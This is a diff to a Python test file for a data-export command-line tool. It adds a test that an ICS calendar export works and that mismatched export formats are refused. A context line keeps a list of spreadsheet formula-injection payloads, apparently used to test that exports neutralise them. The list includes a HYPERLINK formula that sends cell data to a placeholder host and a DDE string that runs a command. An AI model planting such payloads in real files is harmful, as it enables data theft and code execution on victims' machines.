@@ -7,6 +7,7 @@ from datetime import date, datetime
 from decimal import Decimal
 
 import pytest
+from icalendar import Calendar
 from python_calamine import CalamineWorkbook
 
 from data_access.queries.sheets import SHEETS
@@ -24,6 +25,18 @@ PAYLOADS = ('=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM
 @pytest.fixture
 def tiny(database):
     write(database, generate("tiny", 1, AS_OF), "seed")
+
+
+def test_the_calendar_is_ics_and_nothing_else_is(cli, tiny, tmp_path):
+    target = tmp_path / "dates.ics"
+    code, out, _ = cli("export", "calendar", "--format", "ics", "--out", target)
+    events = Calendar.from_ical(target.read_bytes()).walk("VEVENT")
+    assert (code, out) == (0, f"wrote {len(events)} entries to {target}\n")
+    assert {event["CATEGORIES"].cats[0] for event in events} >= {"due"}
+    for name, kind in (("calendar", "csv"), ("balances", "ics")):
+        code, _, err = cli("export", name, "--format", kind, "--out", tmp_path / "no")
+        assert (code, "cannot be written as" in err) == (1, True)
+    assert not (tmp_path / "no").exists()
 
 
 def plain(cell):
